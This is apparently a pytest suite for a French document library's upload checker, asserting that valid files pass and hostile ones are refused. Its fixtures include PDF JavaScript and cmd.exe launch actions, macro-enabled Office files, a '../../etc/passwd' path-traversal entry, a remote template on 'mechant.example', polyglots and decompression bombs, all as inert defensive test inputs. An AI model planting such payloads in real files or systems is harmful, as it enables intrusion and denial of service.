"""What the library takes and what it refuses. Hostile files are made here, byte by byte."""

import random
import zipfile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from documents.library.filetypes import check_file
from documents.library.inspection import inspect
from portal.domain.files.checks import FileType, normal_name, weight
from portal.domain.files.refusal import FileRefused
from tests.documents.library.files import ICS, OOXML_TYPES, archive, docx, object_stream, odt, pdf


def refused(name: str, content: bytes) -> str:
    with pytest.raises(FileRefused) as refusal:
        check_file(name, content)
    return refusal.value.reason


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("Règlement intérieur 2026.PDF", pdf(), FileType.PDF),
        ("fiche.docx", docx(), FileType.DOCX),
        ("fiche.odt", odt(), FileType.ODT),
        ("bus.csv", "arrêt;heure\nMairie;7 h 40\n".encode(), FileType.CSV),
        ("bus.csv", "\ufeffarrêt;heure\n".encode(), FileType.CSV),
        ("vacances.ics", ICS, FileType.ICS),
        ("lisez-moi.txt", b"3 < 4, dit le texte.", FileType.TXT),
    ],
    # Never the content itself: an archive holds the hour at which it was made, another in each process.
    ids=lambda value: value if isinstance(value, str) else "content",
)
def test_a_file_that_is_what_it_says_is_taken(name: str, content: bytes, kind: FileType) -> None:
    taken = check_file(name, content)
    assert taken.kind is kind
    assert taken.content == content


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("photo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "n’est pas accepté"),
        ("page.html", b"<p>Bonjour</p>", "n’est pas accepté"),
        ("virus.exe", b"MZ", "n’est pas accepté"),
        ("reglement.pdf.exe", pdf(), "n’est pas accepté"),
        ("macros.docm", docx(), "n’est pas accepté"),
        ("sans-extension", pdf(), "n’est pas accepté"),
        ("vide.pdf", b"", "est vide"),
        ("blancs.txt", b" \n\n", "est vide"),
        ("page.pdf", b"<!doctype html><script>alert(1)</script>", "ce n’en est pas un"),
        ("page.pdf", b"<html>%PDF-1.7 %%EOF", "ce n’en est pas un"),
        ("coupe.pdf", b"%PDF-1.7\n1 0 obj", "ce n’en est pas un"),
        ("image.pdf", b"\x89PNG\r\n\x1a\n" + pdf(), "ce n’en est pas un"),
        ("double.pdf", pdf() + archive({"virus.exe": b"MZ"}), "un autre fichier"),
        ("double.pdf", pdf() + b"<script>alert(1)</script>", "un autre fichier"),
        ("double.pdf", pdf(b"<html><script>alert(1)</script>"), "un autre fichier"),
        ("code.pdf", pdf(b"3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"), "un programme"),
        ("code.pdf", pdf(b"3 0 obj\n<</S/J#61vaScript/J#53(app.alert(1))>>\nendobj\n"), "un programme"),
        ("code.pdf", pdf(object_stream(b"3 0 <</S/JavaScript/JS(app.alert(1))>>")), "un programme"),
        ("code.pdf", pdf(object_stream(b"3 0 <</S/JavaScript>>", b"")), "un programme"),
        ("code.pdf", pdf(b"3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"), "un programme"),
        ("code.pdf", pdf(b"% stream\n3 0 obj\n<</S/JavaScript>>\nendobj\n% endstream\n"), "un programme"),
        ("hex.pdf", pdf(object_stream(b"00", b"/Filter[/ASCIIHexDecode/FlateDecode]")), "vérifier"),
        ("joint.pdf", pdf(b"3 0 obj\n<</Type/EmbeddedFile>>\nendobj\n"), "fichier joint"),
        ("cle.pdf", pdf(b"3 0 obj\n<</Encrypt 4 0 R>>\nendobj\n"), "mot de passe"),
        ("autre.docx", archive({"virus.exe": b"MZ"}), "ce n’en est pas un"),
        ("abime.docx", docx()[:80], "ce n’en est pas un"),
        ("texte.docx", b"Bonjour", "ce n’en est pas un"),
        ("tableur.xlsx", docx(), "ce n’en est pas un"),
        ("texte.odt", docx(), "ce n’en est pas un"),
        ("macro.docx", docx({"word/vbaProject.bin": b"x"}), "macro"),
        ("macro.docx", docx(types=OOXML_TYPES.replace(b"main+xml", b"macroEnabled.main+xml")), "macro"),
        ("objet.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "macro"),
        ("macro.odt", odt({"Basic/Standard/Module1.xml": b"x"}), "macro"),
        ("sortie.docx", docx({"../../etc/passwd": b"x"}), "ce n’en est pas un"),
        (
            "modele.docx",
            docx(
                {
                    "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/relationships/attachedTemplate" '
                    b'Target="http://mechant.example/m.dotm" TargetMode="External"/>'
                }
            ),
            "un autre site",
        ),
        ("latin.csv", "arrêt".encode("latin-1"), "UTF-8"),
        ("page.txt", b"\n <!DOCTYPE html><p>", "page web"),
        ("page.csv", b"a;b\n<script>alert(1)</script>;c", "page web"),
        ("image.txt", b"\x89PNG\r\n\x1a\n", "ce n’en est pas un"),
        ("agenda.ics", b"Bonjour", "ce n’en est pas un"),
    ],
    ids=lambda value: value if isinstance(value, str) else "content",
)
def test_a_hostile_file_is_refused_with_what_to_do(name: str, content: bytes, words: str) -> None:
    assert words in refused(name, content)


def test_an_archive_that_unfolds_without_end_is_refused() -> None:
    bomb = docx({f"word/media/{number}": bytes(30_000_000) for number in range(8)})
    assert len(bomb) < 1_000_000
    assert "sans fin" in refused("bombe.docx", bomb)


def test_an_archive_of_too_many_files_is_refused() -> None:
    crowd = archive(
        {"[Content_Types].xml": OOXML_TYPES, **{f"word/{number}": b"" for number in range(5_001)}},
        compression=zipfile.ZIP_STORED,
    )
    assert "sans fin" in refused("foule.docx", crowd)


def test_a_pdf_whose_objects_unfold_without_end_is_refused() -> None:
    assert "sans fin" in refused("bombe.pdf", pdf(object_stream(bytes(60_000_000))))


def test_too_big_a_file_is_refused_with_both_weights(settings: Any) -> None:
    settings.LIBRARY_MAX_UPLOAD_SIZE = 100
    reason = refused("gros.pdf", pdf(mark=b"x" * 2000))
    assert "pèse 3 Ko, 1 Ko au plus" in reason.replace("\u00a0", " ")


def test_letters_that_look_like_a_program_inside_a_picture_are_no_program() -> None:
    picture = random.Random(4).randbytes(5_000) + b"/JS (" + random.Random(5).randbytes(5_000)
    content = pdf(b"4 0 obj\n<</Type/XObject/Length 9>>\nstream\n" + picture + b"\nendstream\nendobj\n")
    assert check_file("photo.pdf", content).kind is FileType.PDF


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("Règlement intérieur (v2).PDF", "reglement-interieur-v2.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Mairie\\Menus d’été.pdf", "menus-dete.pdf"),
        ("facture.php.pdf", "facturephp.pdf"),
        ("\u202efdp.exe.pdf", "fdpexe.pdf"),
        ("写真.pdf", "document.pdf"),
        (".pdf.pdf", "pdf.pdf"),
    ],
)
def test_a_name_becomes_fit_for_an_address(given_name: str, kept: str) -> None:
    assert normal_name(given_name, FileType.PDF) == kept


@given(st.text(max_size=300))
def test_no_name_leaves_its_folder(name: str) -> None:
    kept = normal_name(name, FileType.PDF)
    assert kept.endswith(".pdf")
    assert len(kept) < 100
    assert set(kept) <= set("abcdefghijklmnopqrstuvwxyz0123456789-_.")
    assert kept.count(".") == 1


@given(st.sampled_from(list(FileType)), st.binary(max_size=400))
def test_no_content_breaks_the_check(kind: FileType, content: bytes) -> None:
    for head in (b"", b"%PDF-1.7\n", b"PK\x03\x04", b"BEGIN:VCALENDAR"):
        try:
            taken = check_file(f"a.{kind.value}", head + content)
        except FileRefused:
            continue
        inspect(taken)


@pytest.mark.parametrize(
    ("size", "said"), [(1, "1 Ko"), (184_000, "180 Ko"), (1_048_576, "1 Mo"), (1_468_006, "1,4 Mo")]
)
def test_a_weight_is_said_as_families_read_it(size: int, said: str) -> None:
    assert weight(size).replace("\u00a0", " ") == said


def test_the_words_of_an_office_document_are_found() -> None:
    assert inspect(check_file("fiche.docx", docx())).text == "Autorisation de sortie"
    assert inspect(check_file("fiche.odt", odt())).text == "Fiche sanitaire"
